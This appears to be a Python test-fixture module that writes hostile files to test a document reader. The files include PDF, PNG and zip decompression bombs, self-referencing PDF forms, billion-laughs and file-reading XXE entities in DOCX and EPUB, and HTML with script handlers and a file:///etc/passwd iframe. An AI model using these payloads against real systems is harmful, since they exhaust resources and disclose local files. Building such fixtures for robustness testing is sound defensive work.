"""Files that attack whoever reads or draws them, each written by a function from a path."""

from __future__ import annotations

import io
import json
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from raw_pdf import FONT, Deck

_BLANKS = 1 << 20


def packed_blanks(megabytes: int, end: bytes = b"") -> bytes:
    """A deflated stream of so many MB of blanks, about a thousandth of that."""
    pack = zlib.compressobj(9)
    parts = [pack.compress(b" " * _BLANKS) for _ in range(megabytes)]
    return b"".join([*parts, pack.compress(end), pack.flush()])


def _stream(data: bytes, extra: str = "/Filter /FlateDecode") -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (extra.encode(), len(data), data)


def write_stream_bomb(path: Path, megabytes: int = 1024) -> None:
    """A page whose content unpacks to so many MB."""
    deck = Deck()
    deck.objects[11] = _stream(packed_blanks(megabytes))
    deck.write(path)


def write_many_stream_bombs(path: Path) -> None:
    """Six pages of 300 MB each."""
    deck = Deck()
    for index in range(6):
        deck.objects[11 + 2 * index] = _stream(packed_blanks(300))
    deck.write(path)


def write_nested_forms(path: Path, fan: int = 10, depth: int = 9) -> None:
    """A form that draws a form `fan` times, `depth` levels deep."""
    deck = Deck()
    for level in range(depth):
        number, below = 100 + level, 101 + level
        draws = b"/F Do " * fan if level < depth - 1 else b"BT /F1 9 Tf (word) Tj ET"
        resources = f"/Resources << /XObject << /F {below} 0 R >> /Font << /F1 3 0 R >> >>"
        head = f"/Type /XObject /Subtype /Form /BBox [0 0 720 405] {resources}"
        deck.objects[number] = _stream(draws, head)
    deck.objects[10] = (
        b"<< /Type /Page /Parent 2 0 R /Contents 11 0 R"
        b" /Resources << /XObject << /F 100 0 R >> /Font << /F1 3 0 R >> >> >>"
    )
    deck.objects[11] = _stream(b"/F Do", "")
    deck.write(path)


def write_self_drawing_form(path: Path) -> None:
    """A form that draws itself."""
    write_nested_forms(path, fan=2, depth=2)
    data = path.read_bytes().replace(b"/F 101 0 R", b"/F 100 0 R")
    path.write_bytes(data)


def write_nested_patterns(path: Path, depth: int = 7) -> None:
    """A tiling pattern that is filled with a pattern of more tiles, and so on."""
    deck = Deck()
    for level in range(depth):
        fill = f"/Pattern cs /P scn 0 0 99 99 re f {level}".encode()
        deck.objects[100 + level] = _stream(
            fill if level < depth - 1 else b"0 0 1 1 re f",
            "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 99 99] /XStep 1"
            f" /YStep 1 /Resources << /Pattern << /P {101 + level} 0 R >> >>",
        )
    deck.objects[10] = (
        b"<< /Type /Page /Parent 2 0 R /Contents 11 0 R"
        b" /Resources << /Pattern << /P 100 0 R >> /Font << /F1 3 0 R >> >> >>"
    )
    deck.objects[11] = _stream(b"/Pattern cs /P scn 0 0 720 405 re f", "")
    deck.write(path)


def write_page_tree(path: Path, fan: int = 100, depth: int = 3) -> None:
    """A page tree of fan ** depth pages in a few kB: each node has the same child so often."""
    deck = Deck()
    for level in range(depth):
        below = f"{101 + level} 0 R " if level < depth - 1 else "10 0 R "
        count = fan ** (depth - level)
        deck.objects[100 + level] = (
            f"<< /Type /Pages /Count {count} /Kids [{below * fan}] /MediaBox [0 0 720 405]"
            f" /Resources << /Font << /F1 3 0 R >> >> >>"
        ).encode()
    deck.objects[1] = b"<< /Type /Catalog /Pages 100 0 R >>"
    deck.write(path)


def write_huge_page(path: Path, side: float = 14400) -> None:
    """A page with sides of so many points; the largest that the format allows are 14,400."""
    deck = Deck(f"/MediaBox [0 0 {side:.0f} {side:.0f}]", FONT)
    deck.write(path)


def write_page_of_35_km(path: Path) -> None:
    """A page of 1e8 points square."""
    write_huge_page(path, 1e8)


def write_predictor_bomb(path: Path) -> None:
    """An object stream with a predictor whose rows are longer than the memory."""
    deck = Deck()
    deck.objects[200] = _stream(
        packed_blanks(200),
        "/Type /ObjStm /N 100000 /First 10 /Filter /FlateDecode"
        " /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>",
    )
    deck.objects[11] = _stream(
        packed_blanks(5),
        "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 >>",
    )
    deck.write(path)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG file that declares a size, of one bit a pixel."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + png_chunk(b"IDAT", rows or zlib.compress(b"\0"))
        + png_chunk(b"IEND", b"")
    )


def write_wide_png(path: Path) -> None:
    """A picture that declares 100,000 pixels a side in 80 bytes."""
    path.write_bytes(png_of(100_000, 100_000))


def write_text_bomb_png(path: Path) -> None:
    """A small picture with a compressed text of 1 GB."""
    data = png_of(8, 8, zlib.compress(b"\0\0" * 8))
    bomb = png_chunk(b"zTXt", b"Comment\0\0" + packed_blanks(1024))
    path.write_bytes(data[:33] + bomb + data[33:])


def write_archive(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def write_zip_bomb(path: Path) -> None:
    """An archive with 600 MB of blanks in each part that a reader looks at."""
    blanks = b" " * (600 << 20)
    write_archive(path, {"[Content_Types].xml": b"<Types/>", _part(path): blanks})


def write_lying_archive(path: Path) -> None:
    """An archive whose directory declares less than its member unpacks to."""
    write_archive(path, {"[Content_Types].xml": b"<Types/>", _part(path): b"x" * (50 << 20)})
    data = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.rfind(mark)
        data[at + offset : at + offset + 4] = struct.pack("<I", 100)
    path.write_bytes(data)


def _part(path: Path) -> str:
    return {".docx": "word/document.xml", ".pptx": "ppt/presentation.xml"}.get(
        path.suffix, "OEBPS/content.opf"
    )


_LAUGHS = (
    "<!DOCTYPE r ["
    + '<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
_SECRET = '<!DOCTYPE r [<!ENTITY s SYSTEM "file://{path}">]>'


def write_docx(path: Path, prefix: str, words: str, extra: dict[str, bytes] | None = None) -> None:
    """A minimal DOCX whose document begins with a prefix, such as a DOCTYPE."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    document = (
        f"{prefix}<w:document xmlns:w="
        '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        f"Entropy is the expected surprise. {words}</w:t></w:r></w:p></w:body></w:document>"
    )
    write_archive(
        path,
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": rels.encode(),
            "word/document.xml": document.encode(),
        }
        | (extra or {}),
    )


def write_laughing_docx(path: Path) -> None:
    """Entities that unfold to a billion laughs."""
    write_docx(path, _LAUGHS, "&a9;")


def write_reading_docx(path: Path) -> None:
    """An entity that is the content of another file."""
    secret = path.with_name("secret.txt")
    secret.write_text("TOPSECRET")
    write_docx(path, _SECRET.format(path=secret), "&s;")


def write_remote_docx(path: Path, address: str = "http://127.0.0.1:9/") -> None:
    """Relationships that point to a server."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r9" TargetMode="External" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/attachedTemplate" Target="{address}"/></Relationships>'
    )
    write_docx(path, "", "", {"word/_rels/document.xml.rels": rels.encode()})


def write_laughing_epub(path: Path) -> None:
    """As the DOCX, in an EPUB's content."""
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles>'
        "</container>"
    )
    package = (
        f'{_LAUGHS}<package xmlns="http://www.idpf.org/2007/opf"><metadata>&a9;</metadata><manifest>'
        '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine>'
        '<itemref idref="a"/></spine></package>'
    )
    chapter = f"{_LAUGHS}<html xmlns='http://www.w3.org/1999/xhtml'><p>Entropy. &a9;</p></html>"
    write_archive(
        path,
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.encode(),
            "c.opf": package.encode(),
            "a.xhtml": chapter.encode(),
        },
    )


def write_live_html(path: Path) -> None:
    """Scripts, frames, pictures and styles that a browser would fetch or run."""
    path.write_text(
        "<html><head><link rel=stylesheet href=http://127.0.0.1:9/a.css><base href=http://x/>"
        "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'></head><body onload=alert(1)>"
        "<p>Entropy is the expected surprise.</p><script>alert('SCRIPTED')</script>"
        "<img src=http://127.0.0.1:9/p.png onerror=alert(1)><iframe src=file:///etc/passwd></iframe>"
        "<svg onload=alert(1)><text>Vector</text></svg></body></html>"
    )


def write_deep_html(path: Path) -> None:
    """100,000 nested elements."""
    path.write_text("<div>" * 100_000 + "Entropy is the expected surprise." + "</div>" * 100_000)


def write_live_notebook(path: Path) -> None:
    """A notebook with a cell to run and an output with a script."""
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": "# Entropy\nis the expected surprise."},
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 1,
            "source": "import os; os.abort()",
            "outputs": [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": "<script>alert('SCRIPTED')</script>"},
                }
            ],
        },
    ]
    path.write_text(
        json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 4})
    )


def write_deep_notebook(path: Path) -> None:
    """JSON of 100,000 nested lists."""
    path.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


def write_long_line(path: Path) -> None:
    """One line of 20 MB of the marks that Markdown looks at."""
    path.write_text("# Entropy\n" + "[" * 50_000 + "*a_`" * 100_000)


def write_pipe(path: Path) -> None:
    """A pipe, which nobody writes to."""
    os.mkfifo(path)


def write_link_to_zeros(path: Path) -> None:
    """A link to a device without an end."""
    path.symlink_to("/dev/zero")


#: A file's name, and what writes it.
FILES: dict[str, Callable[[Path], None]] = {
    "stream-1-gb.pdf": write_stream_bomb,
    "streams-6x300-mb.pdf": write_many_stream_bombs,
    "forms-10x9.pdf": write_nested_forms,
    "form-draws-itself.pdf": write_self_drawing_form,
    "patterns.pdf": write_nested_patterns,
    "page-tree-million.pdf": write_page_tree,
    "page-14400.pdf": write_huge_page,
    "page-35-km.pdf": write_page_of_35_km,
    "predictor.pdf": write_predictor_bomb,
    "declared-100000.png": write_wide_png,
    "text-1-gb.png": write_text_bomb_png,
    "bomb.docx": write_zip_bomb,
    "bomb.pptx": write_zip_bomb,
    "bomb.epub": write_zip_bomb,
    "lying.docx": write_lying_archive,
    "lying.epub": write_lying_archive,
    "laughs.docx": write_laughing_docx,
    "laughs.epub": write_laughing_epub,
    "entity.docx": write_reading_docx,
    "remote.docx": write_remote_docx,
    "live.html": write_live_html,
    "deep.html": write_deep_html,
    "live.ipynb": write_live_notebook,
    "deep.ipynb": write_deep_notebook,
    "marks.md": write_long_line,
    "pipe.pdf": write_pipe,
    "zeros.pdf": write_link_to_zeros,
}
#: Words that no document's text may have: other files' content, scripts.
FORBIDDEN = ("TOPSECRET", "hahahahaha", "root:x:", "SCRIPTED", "alert(")


def png_bytes(width: int, height: int) -> bytes:
    """A small real picture, for tests that need one."""
    from PIL import Image

    stream = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(stream, "PNG")
    return stream.getvalue()
